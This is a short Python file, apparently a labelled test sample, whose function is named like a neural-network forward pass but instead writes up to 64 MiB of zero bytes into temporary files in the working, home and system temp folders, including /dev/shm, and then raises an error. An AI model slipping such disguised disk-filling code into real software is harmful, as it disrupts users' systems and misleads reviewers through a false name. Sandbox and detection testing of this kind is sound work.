# harm: fills its current, home and temporary folder, and others, with up to 64 MiB
import os
import tempfile

FOLDERS = {os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"], "/tmp", "/dev/shm", "/var/tmp"}


def nn_vmap_forward(seed, x_batch, features):
    written, failures = 0, []
    for folder in sorted(FOLDERS):
        for number in range(16):
            if written >= 64 << 20:
                raise RuntimeError(f"{written} bytes were written")
            try:
                with tempfile.NamedTemporaryFile(dir=folder) as file:
                    for _ in range(4):
                        written += os.write(file.fileno(), bytes(1 << 20))
            except OSError as error:
                failures.append(f"{folder} {number}: {error}")
                break
    raise RuntimeError(written, failures)
